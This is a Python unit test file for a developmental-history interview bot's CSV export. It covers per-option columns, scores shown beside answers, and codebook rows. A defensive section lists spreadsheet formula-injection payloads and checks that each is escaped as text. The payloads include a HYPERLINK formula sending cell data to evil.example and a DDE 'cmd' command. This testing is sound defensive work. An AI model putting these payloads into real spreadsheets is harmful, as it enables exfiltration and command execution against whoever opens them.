"""CSV export: columns per item and option, repeated items, scores beside answers, codebook."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from bot.data import tables
from bot.data.load import InterviewData
from bot.data.render import text as data_text
from flows.catalog import FlowCatalog
from flows.engine import AgeValue, Answer
from tests.unit.data_helpers import interview
from tests.unit.families import default_flow, family_jay, family_mia

CATALOG = FlowCatalog.bundled("developmental_history")


def table(data: list[InterviewData], *, nicknames: bool = True) -> list[dict[str, str]]:
    header, body = tables.rows(default_flow(), data, include_nicknames=nicknames)
    text = tables.to_csv(header, body).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_columns__multi_select_per_option__repeats_as_item_option() -> None:
    names = [c.name for c in tables.answer_columns(default_flow())]
    assert names[:4] == ["child_name", "child_age.min_months", "child_age.max_months",
                         "respondent"]
    assert "adv_types.neglect" in names and "adv_types.none" in names
    assert "adv_types" not in names
    assert "adv_severity[neglect]" in names
    assert "adv_periods[neglect].perinatal" in names
    # The exclusive options ("none", "unknown") repeat nothing.
    assert not any(n.startswith("adv_severity[none]") for n in names)
    assert len(names) == len(set(names))


def test_rows__values_zero_one_and_scores_beside_answers() -> None:
    [row] = table([interview(default_flow(), family_jay())])
    assert row["adv_types.neglect"] == "1" and row["adv_types.loss"] == "0"
    assert row["adv_periods[neglect].infancy"] == "1"
    assert row["adv_periods[neglect].early"] == "0"
    assert row["adv_periods[loss].early"] == ""  # never asked: loss was not ticked
    assert row["adv_severity[neglect]"] == "severe"
    assert (row["child_age.min_months"], row["child_age.max_months"]) == ("96", "96")
    assert row["cg_children"] == "3"
    # Jay, hand-scored in tests/unit/test_scoring.py.
    assert row["score.region.brainstem"] == "50.0"
    assert row["score.region.brainstem.band"] == "significant"  # arousal, startle "a lot"
    assert row["score.factor.self_regulation.band"] == "significant"
    assert row["score.caregiving_reserve"] == "-3.0"
    assert row["score.overall_risk.band"] == "high"
    assert row["fhir_status"] == "completed" and row["nickname"] == "Mia"


def test_rows__not_submitted__no_scores__nickname_withheld() -> None:
    answers = dict(family_mia()) | {"child_age": Answer(AgeValue(30, 42, "about 3"))}
    [row] = table([interview(default_flow(), answers, state="paused")], nicknames=False)
    assert row["score.region.brainstem"] == "" and row["score.overall_risk"] == ""
    assert row["child_name"] == "" and "nickname" not in row
    assert (row["child_age.min_months"], row["child_age.max_months"]) == ("30", "42")
    assert row["fhir_status"] == "in-progress"


def test_codebook__every_column_described() -> None:
    flow = default_flow()
    header, _ = tables.rows(flow, [], include_nicknames=False)
    book_header, book = tables.codebook(flow, include_nicknames=False)
    assert book_header[:7] == ["column", "item_id", "repeat_for", "section", "text", "type",
                               "options"]
    described = {row[0]: row for row in book}
    assert list(described) == header
    assert described["adv_types.neglect"][1:3] == ["adv_types", ""]
    assert described["adv_severity[neglect]"][2] == "neglect"
    assert described["adv_severity[neglect]"][4].startswith('"Not being fed, kept safe')
    assert described["living"][6].startswith("two_parents=Two parents; one_parent=")
    withheld = data_text("en", "codebook_item", type="text", part="", min=None, max=None,
                         withheld=True)
    assert described["child_name"][7] == withheld
    _, kept = tables.codebook(flow, include_nicknames=True)
    assert {row[0]: row for row in kept}["child_name"][7] != withheld
    assert described["score.region.cortex"][5] == "score"
    assert all(row[8:] == ["developmental_history", 1] for row in book)
    assert all(row[4] for row in book)  # nothing undescribed


# -- formula injection: one function, every cell (docs/data.md) -------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "  =1+1", "\t=1+1", "\r=1+1"]


def test_csv__formula_nickname_and_answer__kept_as_text_with_apostrophe() -> None:
    for formula in FORMULAS:
        answers = dict(family_jay()) | {"child_name": Answer(formula)}
        [row] = table([interview(default_flow(), answers, nickname=formula)])
        assert row["nickname"] == "'" + formula, formula
        assert row["child_name"] == "'" + formula, formula


def test_csv__numbers__stay_numbers_even_negative() -> None:
    [row] = table([interview(default_flow(), family_jay())])
    assert row["score.caregiving_reserve"] == "-3.0"  # a negative score is a number
    assert row["cg_children"] == "3" and row["child_age.min_months"] == "96"
    assert tables.neutralise(-1.5) == -1.5 and tables.neutralise(-2) == -2


def test_csv__ordinary_text__unchanged() -> None:
    for text in ("Mia", "Jean-Luc", "a-b", "1+1", "mail@example.org", " Ana ", ""):
        assert tables.neutralise(text) == text


@given(st.text(max_size=30))
def test_neutralise__any_text__never_a_formula_and_nothing_lost(text: str) -> None:
    cell = tables.neutralise(text)
    assert isinstance(cell, str)
    risky = text.startswith(tables.FORMULA_STARTS) or text.lstrip().startswith(
        tables.FORMULA_STARTS)
    assert cell == ("'" + text if risky else text)


def test_export_files__clinician_csv__nickname_cell_neutralised() -> None:
    from bot.data.exporting import export_files

    data = interview(default_flow(), family_jay(), nickname="@SUM(A1:A9)")
    result = export_files(CATALOG, [data], "csv", include_nicknames=True)
    table_file, codebook_file = result.files
    [row] = csv.DictReader(io.StringIO(table_file.data.decode("utf-8-sig")))
    assert row["nickname"] == "'@SUM(A1:A9)"
    for cells in csv.reader(io.StringIO(codebook_file.data.decode("utf-8-sig"))):
        assert all(not c.lstrip().startswith(tables.FORMULA_STARTS) for c in cells)
